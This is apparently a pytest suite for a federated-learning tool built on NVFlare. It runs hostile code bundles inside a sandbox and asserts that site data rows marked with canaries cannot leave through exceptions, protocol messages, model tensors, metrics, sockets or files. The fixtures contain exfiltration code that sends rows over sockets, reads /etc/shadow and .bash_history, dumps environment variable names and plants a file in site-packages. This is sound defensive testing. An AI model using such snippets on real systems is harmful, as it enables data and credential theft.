"""DESIGN §8 under attack: a hostile bundle per channel, in the real NVFlare simulator, with the real sandbox.

Each test runs a bundle that tries to move a site's rows out through one channel, then looks at
everything that left the sites — the CLI's output, the run's files, the server's workspace, the
platform's storage rows and the web UI's responses — for the rows' canaries, in any encoding.
Where the bundle could only try (the network, the environment), the site's own log shows what it
got, so each test can tell "closed" from "not attempted".
"""

from __future__ import annotations

import http.server
import json
import re
import socket
import threading
from pathlib import Path

import pytest
from click.testing import CliRunner
from leaks import CANARY, assert_nothing_leaked, progress_of, what_left_the_sites
from safetensors.numpy import load_file

from nvflare_fdd.cli.main import main
from nvflare_fdd.testing import TINY_DATA, sgd_train

pytestmark = pytest.mark.slow

# A data.py that keeps the site's rows in the data dict, where train() and evaluate() can reach them.
ROWS_DATA = TINY_DATA + '''
_data_loader = data_loader


def data_loader(raw_datas, configs):
    frame = raw_datas["solubility"]
    rows = "|".join(frame["chemical_id"].astype(str)) + "|" + "|".join(frame["comment"].astype(str))
    return {**_data_loader(raw_datas, configs), "rows": rows}
'''

EVALUATE = '''

def evaluate(model, data, configs):
    x, y = next(iter(data["test"]))
    with torch.no_grad():
        return {"mse": torch.nn.functional.mse_loss(model(x), y).item()}
'''

TRAIN_OK = sgd_train()


def fdd_run(bundle: Path, sites: dict[str, str], out: Path, rounds: int = 1, *extra: str):
    arguments = ["run", str(bundle), "--rounds", str(rounds), "--out", str(out), "--timeout", "300", *extra]
    for name, url in sites.items():
        arguments += ["--site", f"{name}={url}"]
    return CliRunner().invoke(main, arguments)


def site_logs(out: Path) -> str:
    """The sites' own logs of the user code (they never leave the sites)."""
    return "\n".join(path.read_text(errors="replace") for path in (out / "nvflare" / "workspace").glob("site_*/**/fdd_user_code.log"))


def failure_of(out: Path) -> dict:
    return json.loads((out / "failure.json").read_text())


# -- failures ------------------------------------------------------------------------------------------


def test_an_exception_carrying_rows_leaves_only_its_type_and_the_bundles_frames(make_bundle, canary_sites, tmp_path):
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": '''
import torch


def train(model, data, configs):
    rows = data["rows"]
    raise ValueError(rows)
''' + EVALUATE}, name="raise_rows")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out)

    assert result.exit_code == 1
    failure = failure_of(out)
    assert (failure["code"], failure["round"], failure["exc_type"]) == (6000, 1, "ValueError")
    assert failure["frames"] == [{"file": "train_eval.py", "line": 7, "function": "train", "source": "raise ValueError(rows)"}]
    assert "ValueError in train_eval.py line 7, `raise ValueError(rows)`" in result.output
    assert_nothing_leaked(what_left_the_sites(out, result.output))
    assert CANARY in site_logs(out)  # the message itself stayed in the site's log


def test_an_exception_type_named_after_the_rows_leaves_as_its_nearest_known_base(make_bundle, canary_sites, tmp_path):
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": '''
import torch


def train(model, data, configs):
    smuggler = type("E" + data["rows"].encode().hex()[:60], (KeyError,), {"__module__": "torch"})
    raise smuggler()
''' + EVALUATE}, name="type_rows")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out)

    assert result.exit_code == 1
    failure = failure_of(out)
    assert (failure["code"], failure["exc_type"]) == (6000, "KeyError")
    assert "KeyError in train_eval.py line 7, `raise smuggler()`" in result.output
    smuggled = "E" + (b"CANARYrow7f3a".hex())[:20]
    for name, blob in what_left_the_sites(out, result.output).items():
        assert smuggled.encode() not in blob.replace(b"\n", b""), name


def test_rows_printed_before_the_process_exits_stay_in_the_sites_log(make_bundle, canary_sites, tmp_path):
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": '''
import os
import sys

import torch


def train(model, data, configs):
    print(data["rows"], flush=True)
    print(data["rows"], file=sys.stderr, flush=True)
    os._exit(3)
''' + EVALUATE}, name="print_exit")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out)

    assert result.exit_code == 1
    failure = failure_of(out)
    assert failure["code"] == 6000 and "exited with code 3 during train" in failure["message"]
    assert_nothing_leaked(what_left_the_sites(out, result.output))
    assert CANARY in site_logs(out)


def test_a_forged_round_error_is_reduced_to_the_sites_own_record(make_bundle, canary_sites, tmp_path):
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": '''
import torch

from nvflare_fdd.client.phases import Phase, RoundError


def train(model, data, configs):
    rows = data["rows"] * 2000  # about a megabyte
    raise RoundError(Phase.TRAIN, rows, rows, rows, rows, exc_type=rows)
''' + EVALUATE}, name="forged_error")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out)

    failure = failure_of(out)
    assert failure["round"] == 1 and failure["site"] in canary_sites
    assert len((out / "failure.json").read_bytes()) < 16_000
    assert_nothing_leaked(what_left_the_sites(out, result.output))


def test_forged_protocol_messages_end_the_job_and_carry_nothing(make_bundle, canary_sites, tmp_path):
    """User code can reach the worker's socket; whatever it sends there is checked, not believed."""
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": '''
import gc
import json
from multiprocessing.connection import Connection

import torch


def train(model, data, configs):
    [connection] = [o for o in gc.get_objects() if isinstance(o, Connection)]
    rows = data["rows"]
    connection.send_bytes(json.dumps({"kind": "phase", "code": 6000, "event": "end", "phase": rows, "time": 1.0}).encode())
    connection.send_bytes(json.dumps({"ok": True, "params": "/etc/passwd", "num_samples": 1,
                                      "global_metrics": {rows[:60]: 1.0}, "local_metrics": {}}).encode())
''' + EVALUATE}, name="forged_protocol")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out)

    assert result.exit_code == 1
    assert "did not write the update where asked" in failure_of(out)["message"]
    assert_nothing_leaked(what_left_the_sites(out, result.output))


# -- parameters and the sample count -----------------------------------------------------------------


@pytest.mark.parametrize("transfer", ["message", "stream"])
def test_rows_hidden_in_a_new_buffer_never_reach_a_global_model(make_bundle, canary_sites, tmp_path, transfer):
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": TRAIN_OK + '''
    model.register_buffer("leak_rows", torch.tensor(list(data["rows"].encode()), dtype=torch.uint8))
''' + EVALUATE}, name="leak_buffer")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out, 1, "--model-transfer", transfer)

    failure = failure_of(out)
    assert failure["code"] == 8000 and "1 tensor(s) the global model does not have" in failure["message"]
    assert "leak_rows" not in failure["message"]  # a user-made name stays at the site too
    assert "leak_rows" in site_logs(out)
    for model in out.glob("*global_model.safetensors"):
        assert "leak_rows" not in load_file(str(model))
    assert not list(out.rglob("fdd_outgoing/*"))  # a refused update is never offered (streamed) and not kept
    assert_nothing_leaked(what_left_the_sites(out, result.output))


@pytest.mark.parametrize("transfer", ["message", "stream"])
def test_a_weight_of_another_shape_is_refused_by_name(make_bundle, canary_sites, tmp_path, transfer):
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": TRAIN_OK + '''
    rows = torch.tensor(list(data["rows"].encode()), dtype=torch.float32)
    model.linear.weight = torch.nn.Parameter(rows.reshape(1, -1))


def evaluate(model, data, configs):
    return {"mse": 1.0}
'''}, name="reshaped")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out, 1, "--model-transfer", transfer)

    failure = failure_of(out)
    assert failure["code"] == 8000 and "'linear.weight'" in failure["message"]
    assert_nothing_leaked(what_left_the_sites(out, result.output))


def test_a_sample_count_beyond_the_rows_served_fails_the_round(make_bundle, canary_sites, tmp_path):
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": TRAIN_OK + '''
    return {"num_samples": int.from_bytes(data["rows"][:7].encode(), "big")}
''' + EVALUATE}, name="big_count")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out)

    failure = failure_of(out)
    assert failure["code"] == 8000 and "more training samples than this site's KDA served" in failure["message"]
    sent = int.from_bytes(CANARY[:7].encode(), "big")
    assert str(sent) not in json.dumps(failure) and str(sent) not in result.output
    assert_nothing_leaked(what_left_the_sites(out, result.output))


# -- metrics ------------------------------------------------------------------------------------------


def test_only_known_metric_names_leave_a_site_with_rounded_values(make_bundle, canary_sites, tmp_path):
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": TRAIN_OK + '''

def evaluate(model, data, configs):
    x, y = next(iter(data["test"]))
    with torch.no_grad():
        mse = torch.nn.functional.mse_loss(model(x), y).item()
    hexed = data["rows"].encode().hex()
    leaked = {hexed[i:i + 60]: 1.0 for i in range(0, 600, 60)}
    precise = 1 + int.from_bytes(data["rows"][:6].encode(), "big") / 10**15
    return {"mse": mse, "custom_score": 0.5, "precise": precise, **leaked}
'''}, name="metric_names")
    out = tmp_path / "out"
    result = fdd_run(bundle, canary_sites, out, 1, "--metric", "precise")

    assert result.exit_code == 0, result.output
    rows = (out / "metrics.csv").read_text().splitlines()[1:]
    assert {row.split(",")[3] for row in rows} == {"mse", "custom_score", "precise"}  # a literal key, a declared name
    for row in rows:
        value = row.split(",")[4]
        assert len(re.sub(r"[^0-9]", "", value.split("e")[0]).lstrip("0")) <= 6, value
    dropped = progress_of(out)["rounds"]["1"]["sites"]["site_a"]["dropped_metrics"]
    assert dropped["global"] == {"not one of the job's metric names": 10}
    assert "kept at site_a: 10 not one of the job's metric names" in result.output
    assert_nothing_leaked(what_left_the_sites(out, result.output))


# -- network, environment and files ------------------------------------------------------------------

SNOOP_TRAIN = TRAIN_OK + '''
    import os
    import socket
    import sys
    import sysconfig
    found = []
    for address in configs["addresses"]:
        try:
            with socket.create_connection((address, configs["port"]), timeout=3) as connection:
                connection.sendall(data["rows"].encode())
            found.append(f"CONNECTED {address}")
        except OSError as exc:
            found.append(f"NO-NETWORK {address} {type(exc).__name__}")
    found.append("ENVIRONMENT " + " ".join(sorted(os.environ)))
    for path in configs["secrets"]:
        try:
            found.append(f"READ {path} {len(open(path, 'rb').read())}")
        except OSError as exc:
            found.append(f"CANNOT-READ {path} {type(exc).__name__}")
    try:
        open(os.path.join(sysconfig.get_paths()["purelib"], "fdd_planted.py"), "w").write("x = 1")
        found.append("WROTE-PACKAGES")
    except OSError as exc:
        found.append(f"CANNOT-WRITE-PACKAGES {type(exc).__name__}")
    print("\\n".join(found), flush=True)
'''


def test_user_code_reaches_no_network_no_credentials_and_no_site_files(make_bundle, canary_sites, tmp_path):
    received = []
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.5)
    port = listener.getsockname()[1]
    stop = threading.Event()

    def accept() -> None:
        while not stop.is_set():
            try:
                connection, _ = listener.accept()
            except OSError:
                continue
            received.append(connection.recv(1 << 20))
            connection.close()

    threading.Thread(target=accept, daemon=True).start()
    kda_file = canary_sites["site_a"].removeprefix("sqlite:///")
    addresses = ["127.0.0.1", "10.255.255.1"]  # this machine, and an address beyond it
    config = (f"n_features: 3\nport: {port}\naddresses: [{', '.join(addresses)}]\n"
              f"secrets: [{kda_file}, {Path.home() / '.bash_history'}, /etc/shadow]\n")  # fmt: skip
    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": SNOOP_TRAIN + EVALUATE, "config.yaml": config}, name="snoop")
    out = tmp_path / "out"
    try:
        result = fdd_run(bundle, canary_sites, out)
    finally:
        stop.set()
        listener.close()

    assert result.exit_code == 0, result.output
    assert received == []
    log = site_logs(out)
    for address in addresses:
        assert log.count(f"NO-NETWORK {address}") == 2, log  # tried at both sites, and failed
    assert "CONNECTED" not in log
    environment = re.findall(r"^ENVIRONMENT (.*)$", log, re.M)
    assert len(environment) == 2 and not any("FDD_KDA" in names or "FDD_PLATFORM" in names for names in environment)
    assert log.count(f"CANNOT-READ {kda_file}") == 2 and "READ /" not in log.replace("CANNOT-READ", "")
    assert log.count("CANNOT-WRITE-PACKAGES") == 2
    assert_nothing_leaked(what_left_the_sites(out, result.output))


def test_a_site_that_turns_the_sandbox_off_is_recorded(make_bundle, canary_sites, tmp_path):
    from nvflare_fdd.simulate import run_simulation

    bundle = make_bundle({"data.py": ROWS_DATA, "train_eval.py": TRAIN_OK + EVALUATE}, name="unsandboxed")
    outcome = run_simulation(bundle, canary_sites, 1, tmp_path / "out", "TinyRegressor", timeout=300,
                             site_settings={"sandbox": False})  # fmt: skip

    for site in canary_sites:
        environment = outcome.progress["setup"][site][0]
        assert environment["code"] == 900 and environment["sandboxed"] is False


# -- requirements and the KDA ------------------------------------------------------------------------


def test_a_plain_http_index_is_refused_and_never_contacted(make_bundle, canary_sites, tmp_path):
    requests = []

    class Recorder(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802 (the standard library's name)
            requests.append(self.path)
            self.send_error(404)

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Recorder)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    index = f"http://127.0.0.1:{server.server_address[1]}/simple"
    bundle = make_bundle({"requirements.txt": f"--extra-index-url {index}\ntabulate==0.9.0\n"}, name="http_index")
    out = tmp_path / "out"
    try:
        result = fdd_run(bundle, canary_sites, out)
    finally:
        server.shutdown()

    assert result.exit_code == 1
    failure = failure_of(out)
    assert failure["code"] == 900 and f"--extra-index-url {index} is not https" in failure["message"]
    assert requests == []
    validated = CliRunner().invoke(main, ["validate", str(bundle)])
    assert validated.exit_code == 0 and f"warning: requirements.txt:1: names the package index {index}" in validated.output


def test_a_missing_kda_fails_data_download_naming_the_sites_location(make_bundle, canary_sites, tmp_path):
    missing = tmp_path / "no_such_kda.db"
    sites = {"site_a": canary_sites["site_a"], "site_b": f"sqlite:///{missing}"}
    out = tmp_path / "out"
    result = fdd_run(make_bundle(name="plain"), sites, out)

    failure = failure_of(out)
    assert (failure["code"], failure["site"]) == (2000, "site_b")
    assert f"KDA not found at sqlite:///{missing}" in failure["message"]
    assert not missing.exists()
    assert_nothing_leaked(what_left_the_sites(out, result.output))
